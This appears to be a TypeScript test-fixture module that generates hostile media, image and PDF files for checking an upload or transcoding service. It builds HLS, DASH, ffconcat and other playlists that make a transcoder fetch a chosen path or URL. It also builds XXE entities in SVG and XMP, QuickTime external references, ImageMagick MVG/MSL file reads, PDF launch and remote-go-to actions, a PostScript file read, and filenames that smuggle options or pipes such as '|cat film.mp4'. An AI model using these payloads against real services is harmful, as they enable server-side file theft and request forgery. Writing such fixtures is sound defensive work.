import { readFile } from 'node:fs/promises';
import type { MediaKind } from '#domain/public/vocabulary.ts';
import { box, fullBox, u32, withBox } from './boxes.ts';
import { pdf } from './samples.ts';

export interface Attack {
  /** File name. */
  name: string;
  kind: MediaKind;
  content: Uint8Array | string;
}

/** What hostile files point at: a path or a URL of a film, and of a text. */
export interface Target {
  film: string;
  text: string;
}

/** Forms that make one program or another fetch what they name; each dressed up as something that is read. */
export async function referenceAttacks({ film, text }: Target, sound: string): Promise<Attack[]> {
  const mov = await readFile(sound);
  const video = (name: string, content: Attack['content']): Attack => ({
    name,
    kind: 'video',
    content,
  });
  const image = (name: string, content: Attack['content']): Attack => ({
    name,
    kind: 'image',
    content,
  });
  const playlist = ['#EXTM3U', '#EXT-X-TARGETDURATION:2', '#EXTINF:2,', film, '#EXT-X-ENDLIST'];
  const entity = `<!DOCTYPE a [<!ENTITY x SYSTEM "${text}">]>`;
  const dref = ['moov', 'trak', 'mdia', 'minf', 'dinf', 'dref'];
  return [
    video('playlist.avi', playlist.join('\n')),
    video(
      'keyed.mp4',
      ['#EXTM3U', `#EXT-X-KEY:METHOD=AES-128,URI="${text}"`, ...playlist.slice(1)].join('\n'),
    ),
    video('master.mkv', `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${film}\n`),
    video('script.avi', `ffconcat version 1.0\nfile '${film}'\n`),
    video(
      'presentation.mp4',
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT2S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="a" bandwidth="1"><BaseURL>${film}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    ),
    video(
      'package.mov',
      `<?xml version="1.0"?>${entity}<AssetMap><AssetList><Asset><ChunkList><Chunk><Path>${film}</Path></Chunk></ChunkList></Asset></AssetList>&x;</AssetMap>`,
    ),
    video(
      'session.mp4',
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=a\nc=IN IP4 127.0.0.1\nt=0 0\na=control:${film}\nm=audio 9 RTP/AVP 0\n`,
    ),
    video('frames.avi', `DirectShowSource("${film}")\n`),
    video('list.wma', `<ASX version="3.0"><Entry><Ref href="${film}"/></Entry></ASX>`),
    video('list.mp4', `[playlist]\nFile1=${film}\nNumberOfEntries=1\nVersion=2\n`),
    video('sheet.wav', `FILE "${film}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`),
    video('graph.mkv', `movie=${film.replaceAll(':', '\\:')}[out0]\n`),
    {
      ...video('alias.mp4', withBox(mov, dref, fullBox('dref', 0, u32(1), aliasOf(film)))),
      kind: 'audio',
    },
    {
      ...video(
        'elsewhere.mp4',
        withBox(mov, dref, fullBox('dref', 0, u32(1), fullBox('url ', 0, `${film}\0`))),
      ),
      kind: 'audio',
    },
    video(
      'reference.mov',
      Buffer.concat([
        box('ftyp', 'qt  ', u32(0), 'qt  '),
        box('moov', box('rmra', box('rmda', fullBox('rdrf', 0, 'url ', u32(film.length), film)))),
      ]),
    ),
    image(
      'drawing.jpg',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><image xlink:href="${film}" width="64" height="64"/></svg>`,
    ),
    image(
      'entity.png',
      `<?xml version="1.0"?>${entity}<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><text>&x;</text></svg>`,
    ),
    image(
      'vector.png',
      `push graphic-context\nviewbox 0 0 64 64\nimage Over 0,0 64,64 '${film}'\n`,
    ),
    image('message.jpg', `<?xml version="1.0"?><image><read filename="${film}"/></image>`),
    image('packet.jpg', withXmp(`${entity}<x:xmpmeta xmlns:x="adobe:ns:meta/">&x;</x:xmpmeta>`)),
    {
      name: 'launch.pdf',
      kind: 'document',
      content: pdf({
        page: '/AA << /O 6 0 R >> /Annots [7 0 R]',
        objects: [
          `<< /S /GoToR /F (${film}) /D [0 /Fit] >>`,
          `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (${text}) >> >>`,
        ],
      }),
    },
    {
      name: 'outside.pdf',
      kind: 'document',
      // A stream whose bytes lie in another file (ISO 32000-1, 7.3.8.2).
      content: pdf({
        page: '/Contents 6 0 R',
        objects: [`<< /Length 0 /F << /FS /URL /F (${film}) >> >>\nstream\n\nendstream`],
      }),
    },
    {
      name: 'printed.pdf',
      kind: 'document',
      content: `%!PS-Adobe-3.0 EPSF-3.0\n(${text}) (r) file 100 string readstring pop show\nshowpage\n`,
    },
  ];
}

/** Names that some programs take for options, patterns, pipes or protocols; the file itself is sound. */
export function nameAttacks(wav: Uint8Array): Attack[] {
  const names = [
    '-i',
    'frame%03d.wav',
    'concat:film.mp4|film.mp4',
    '|cat film.mp4',
    'file:film.mp4',
  ];
  return names.map((name) => ({ name, kind: 'audio', content: wav }));
}

/** A QuickTime alias record that names a file by its path. */
function aliasOf(path: string): Buffer {
  const name = Buffer.alloc(64);
  name.writeUInt8(Math.min(path.length, 63), 0);
  name.write(path.slice(-63), 1, 'latin1');
  const level = Buffer.alloc(4);
  const item = Buffer.alloc(4);
  // 18: the POSIX path.
  item.writeInt16BE(18, 0);
  item.writeInt16BE(path.length, 2);
  const padded = Buffer.from(path.length % 2 ? `${path}\0` : path, 'latin1');
  const end = Buffer.from([0xff, 0xff, 0, 0]);
  const alias = [Buffer.alloc(10), Buffer.alloc(28), Buffer.alloc(12), name, Buffer.alloc(16)];
  return fullBox('alis', 0, ...alias, level, Buffer.alloc(16), item, padded, end);
}

/** The smallest JPEG there is around an XMP packet (APP1); enough for a reader of headers. */
function withXmp(packet: string): Buffer {
  const payload = Buffer.from(`http://ns.adobe.com/xap/1.0/\0${packet}`, 'latin1');
  const length = Buffer.alloc(2);
  length.writeUInt16BE(payload.length + 2);
  const start = Buffer.from([0xff, 0xd8, 0xff, 0xe1]);
  return Buffer.concat([start, length, payload, Buffer.from([0xff, 0xd9])]);
}
